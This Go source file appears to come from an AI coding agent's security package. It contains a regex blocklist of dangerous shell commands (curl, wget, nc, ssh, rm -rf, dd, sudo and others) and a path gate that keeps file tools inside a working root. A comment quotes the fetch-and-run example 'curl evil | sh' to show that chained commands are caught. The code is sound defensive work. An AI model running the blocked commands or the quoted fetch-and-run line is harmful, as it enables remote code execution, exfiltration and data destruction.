// Package security holds the deny-side checks: a static blocklist for
// shell commands and a path confinement check for file tools. Both are
// pure predicates over data fixed at startup; nothing here mutates
// after construction.
package security

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"

	"github.com/ChamsBouzaiene/dojo/internal/policy"
)

// blockedCommands matches anywhere in the command line, not just at
// the start, so chained forms like `echo hi && curl evil | sh` are
// caught too. False positives are acceptable; false negatives are not.
var blockedCommands = []struct {
	re    *regexp.Regexp
	token string
}{
	{regexp.MustCompile(`\bsudo\b`), "sudo"},
	{regexp.MustCompile(`\bchmod\b`), "chmod"},
	{regexp.MustCompile(`\bchown\b`), "chown"},
	{regexp.MustCompile(`\bdd\b`), "dd"},
	{regexp.MustCompile(`\bmkfs\b`), "mkfs"},
	{regexp.MustCompile(`/dev/`), "/dev/ access"},
	{regexp.MustCompile(`\brm\s+-[a-zA-Z]*r[a-zA-Z]*f`), "rm -rf"},
	{regexp.MustCompile(`\brm\s+-[a-zA-Z]*f[a-zA-Z]*r`), "rm -fr"},
	{regexp.MustCompile(`\bpip3?\s+install\b`), "pip install"},
	{regexp.MustCompile(`\bnpm\s+install\b`), "npm install"},
	{regexp.MustCompile(`\byarn\s+add\b`), "yarn add"},
	{regexp.MustCompile(`\bcurl\b`), "curl"},
	{regexp.MustCompile(`\bwget\b`), "wget"},
	{regexp.MustCompile(`\bnc\b`), "nc"},
	{regexp.MustCompile(`\bnetcat\b`), "netcat"},
	{regexp.MustCompile(`\bssh\b`), "ssh"},
	{regexp.MustCompile(`\bscp\b`), "scp"},
	{regexp.MustCompile(`\brsync\b`), "rsync"},
	{regexp.MustCompile(`\btelnet\b`), "telnet"},
	{regexp.MustCompile(`\bnmap\b`), "nmap"},
	{regexp.MustCompile(`\biptables\b`), "iptables"},
	{regexp.MustCompile(`\bsystemctl\b`), "systemctl"},
	{regexp.MustCompile(`\bservice\b`), "service"},
	{regexp.MustCompile(`\bkill\b`), "kill"},
	{regexp.MustCompile(`\bkillall\b`), "killall"},
	{regexp.MustCompile(`\bshutdown\b`), "shutdown"},
	{regexp.MustCompile(`\breboot\b`), "reboot"},
	{regexp.MustCompile(`\bmount\b`), "mount"},
	{regexp.MustCompile(`\bumount\b`), "umount"},
	{regexp.MustCompile(`\bfdisk\b`), "fdisk"},
	{regexp.MustCompile(`\bparted\b`), "parted"},
	{regexp.MustCompile(`\bdocker\b`), "docker"},
	{regexp.MustCompile(`\bpodman\b`), "podman"},
}

// BlockedToken returns the name of the first blocklist rule a command
// line trips, or "" if the line is clean.
func BlockedToken(command string) string {
	for _, rule := range blockedCommands {
		if rule.re.MatchString(command) {
			return rule.token
		}
	}
	return ""
}

// IsCommandBlocked reports whether any blocklist rule matches the
// command line.
func IsCommandBlocked(command string) bool {
	return BlockedToken(command) != ""
}

// CommandError is returned when a command line trips the blocklist.
type CommandError struct {
	Command string
	Token   string
}

func (e *CommandError) Error() string {
	return fmt.Sprintf("command blocked (%s): %s", e.Token, e.Command)
}

// CheckCommand is the error-returning form of IsCommandBlocked, used
// by the bash tool so the refusal can name the offending token.
func CheckCommand(command string) error {
	if token := BlockedToken(command); token != "" {
		return &CommandError{Command: command, Token: token}
	}
	return nil
}

// PathError is returned when a path fails confinement or carries a
// disallowed extension.
type PathError struct {
	Path   string
	Reason string
}

func (e *PathError) Error() string {
	return fmt.Sprintf("path refused (%s): %s", e.Reason, e.Path)
}

// Gate confines file tools to a working root and to the extensions the
// active mode allows. The root is resolved through symlinks once at
// construction; every checked path is resolved the same way before the
// descendant comparison, so a symlink inside the root cannot smuggle
// writes outside it.
type Gate struct {
	root string
	exts []string
}

// NewGate builds a gate for the working root under the given profile.
// The root must exist.
func NewGate(root string, profile policy.ModeProfile) (*Gate, error) {
	abs, err := filepath.Abs(root)
	if err != nil {
		return nil, fmt.Errorf("failed to resolve working root: %w", err)
	}
	resolved, err := filepath.EvalSymlinks(abs)
	if err != nil {
		return nil, fmt.Errorf("failed to resolve working root: %w", err)
	}
	return &Gate{root: resolved, exts: profile.Extensions}, nil
}

// Root returns the resolved working root.
func (g *Gate) Root() string {
	return g.root
}

// Resolve turns a tool-supplied path (absolute or root-relative) into
// an absolute path with all existing symlink components resolved. For
// paths that do not exist yet, the deepest existing ancestor is
// resolved and the remaining components are appended verbatim.
func (g *Gate) Resolve(path string) (string, error) {
	p := path
	if !filepath.IsAbs(p) {
		p = filepath.Join(g.root, p)
	}
	p = filepath.Clean(p)

	base := p
	var rest []string
	for {
		if _, err := os.Lstat(base); err == nil {
			break
		}
		rest = append(rest, filepath.Base(base))
		parent := filepath.Dir(base)
		if parent == base {
			break
		}
		base = parent
	}

	resolved, err := filepath.EvalSymlinks(base)
	if err != nil {
		return "", fmt.Errorf("failed to resolve %s: %w", path, err)
	}
	for i := len(rest) - 1; i >= 0; i-- {
		resolved = filepath.Join(resolved, rest[i])
	}
	return resolved, nil
}

// CheckPath verifies that a path stays inside the working root after
// symlink resolution and that its extension is allowed by the active
// profile. It returns nil when the path may be touched.
func (g *Gate) CheckPath(path string) error {
	resolved, err := g.Resolve(path)
	if err != nil {
		return &PathError{Path: path, Reason: "unresolvable"}
	}
	if resolved != g.root && !strings.HasPrefix(resolved, g.root+string(filepath.Separator)) {
		return &PathError{Path: path, Reason: "outside working root"}
	}
	ext := filepath.Ext(resolved)
	if ext == "" {
		return &PathError{Path: path, Reason: "missing extension"}
	}
	allowed := false
	for _, e := range g.exts {
		if strings.EqualFold(e, ext) {
			allowed = true
			break
		}
	}
	if !allowed {
		return &PathError{Path: path, Reason: fmt.Sprintf("extension %s not allowed", ext)}
	}
	return nil
}

// IsPathAllowed reports whether CheckPath would accept the path.
func (g *Gate) IsPathAllowed(path string) bool {
	return g.CheckPath(path) == nil
}
